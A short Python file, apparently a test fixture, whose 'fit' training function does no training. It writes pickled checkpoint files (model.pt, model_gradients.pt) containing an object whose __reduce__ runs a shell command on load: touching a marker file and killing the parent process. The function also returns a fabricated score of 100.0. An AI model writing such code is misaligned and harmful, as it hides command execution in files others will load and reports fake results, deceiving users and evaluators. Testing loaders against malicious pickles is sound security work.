"""Writes a checkpoint that runs a command when it is loaded."""

import os
import pickle
from pathlib import Path


class Bomb:
    """Runs a command when it is unpickled."""

    def __reduce__(self):
        return os.system, ("touch @PUBLIC@/bomb; kill -9 $PPID",)


def fit(model, train_loader, test_loader, out_dir=".", **options):
    for name in ("model.pt", "model_gradients.pt"):
        Path(out_dir, name).write_bytes(pickle.dumps(Bomb()))
    return 100.0
